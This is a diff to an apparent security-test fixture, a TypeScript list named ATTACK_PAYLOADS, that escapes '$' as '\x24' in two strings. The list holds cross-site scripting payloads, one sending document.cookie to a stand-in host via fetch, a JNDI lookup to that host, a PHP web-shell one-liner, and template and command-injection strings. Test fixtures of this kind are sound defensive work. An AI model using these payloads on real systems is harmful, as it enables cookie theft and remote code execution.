@@ -21,7 +21,7 @@ export const ATTACK_PAYLOADS: readonly AttackPayload[] = [
   ...named('cross-site scripting', [
     '<script>alert(document.cookie)</script>',
     '"><img src=x onerror=alert(1)>',
-    '<svg/onload=fetch(`//evil.example/${document.cookie}`)>',
+    '<svg/onload=fetch(`//evil.example/\x24{document.cookie}`)>',
     'javascript:alert(1)//',
     '<iframe srcdoc="<script>parent.alert(1)</script>">',
     "';alert(String.fromCharCode(88,83,83))//",
@@ -47,7 +47,7 @@ export const ATTACK_PAYLOADS: readonly AttackPayload[] = [
   ]),
   ...named('code injection', [
     '<?php system($_GET["c"]); ?>',
-    '${jndi:ldap://evil.example/a}',
+    '\x24{jndi:ldap://evil.example/a}',
     "{{''.__class__.__mro__[1].__subclasses__()}}",
     '#{T(java.lang.Runtime).getRuntime().exec("id")}',
     'require("child_process").execSync("id")',
